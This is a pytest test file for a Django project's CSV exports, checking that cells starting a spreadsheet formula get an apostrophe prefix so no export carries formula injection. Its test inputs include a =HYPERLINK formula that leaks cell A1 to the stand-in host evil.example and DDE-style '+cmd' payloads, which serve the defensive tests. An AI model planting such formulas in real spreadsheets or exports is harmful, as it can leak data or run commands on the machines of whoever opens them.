"""No CSV the product writes lets a cell start a spreadsheet formula (places.csvsafe)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse

from api.exports import export
from economics import csv_io
from places.csvsafe import safe_cell
from places.models import Place
from tests.factories import PlaceFactory, ProviderFactory, ServiceOfferFactory

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez")'


@pytest.mark.parametrize(
    "value",
    [EVIL, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1", "\r=1"],
)
def test_text_that_starts_a_formula_gets_an_apostrophe(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["-12.50", "-12,50", "+33 4 72 10 30 30", "-", "Lieu = atelier", "", "1-2"]
)
def test_figures_phone_numbers_and_plain_text_are_left_alone(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [Decimal("-12.50"), -3, -1.5, None, True])
def test_values_that_are_not_text_are_left_alone(value):
    assert safe_cell(value) is value


def _cells(text: str, delimiter: str = ",") -> set[str]:
    return {cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row}


@pytest.fixture
def evil_place(organisation):
    place = PlaceFactory(
        organisation=organisation,
        name=EVIL,
        slug="evil",
        status=Place.Status.PUBLISHED,
        longitude=Decimal("-1.553600"),
    )
    ServiceOfferFactory(place=place, provider=ProviderFactory(slug="evil", name=EVIL))
    return place


@pytest.mark.django_db
def test_the_api_places_csv_neutralises_a_formula_name(evil_place):
    response = Client().get("/api/v1/places/?format=csv")
    cells = _cells(b"".join(response.streaming_content).decode())
    assert "'" + EVIL in cells and EVIL not in cells
    assert "-1.5536" in cells or "-1.553600" in cells  # a negative figure stays a figure


@pytest.mark.django_db
def test_the_api_offers_csv_neutralises_a_formula_provider(evil_place):
    response = Client().get("/api/v1/offers/?format=csv")
    assert response.status_code == 200
    cells = _cells(b"".join(response.streaming_content).decode())
    assert EVIL not in cells
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)


@pytest.mark.django_db
def test_the_open_data_csv_export_neutralises_a_formula_name(evil_place):
    cells = _cells("".join(export("lmn-csv")))
    assert "'" + EVIL in cells and EVIL not in cells


def test_the_economics_csv_neutralises_text_and_keeps_negative_amounts():
    response = csv_io.csv_response(
        "x.csv", ["place", "balance_eur"], [[EVIL, Decimal("-1500.50")]], locale="fr"
    )
    cells = _cells(response.content.decode("utf-8-sig"), delimiter=";")
    assert cells == {"place", "balance_eur", "'" + EVIL, "-1500,50"}


@pytest.mark.django_db
def test_the_staff_registry_export_neutralises_a_formula_name(admin_client_, evil_place):
    response = admin_client_.get(reverse("manage:place_export_csv"))
    cells = _cells(b"".join(response.streaming_content).decode("utf-8-sig"), delimiter=";")
    assert "'" + EVIL in cells and EVIL not in cells
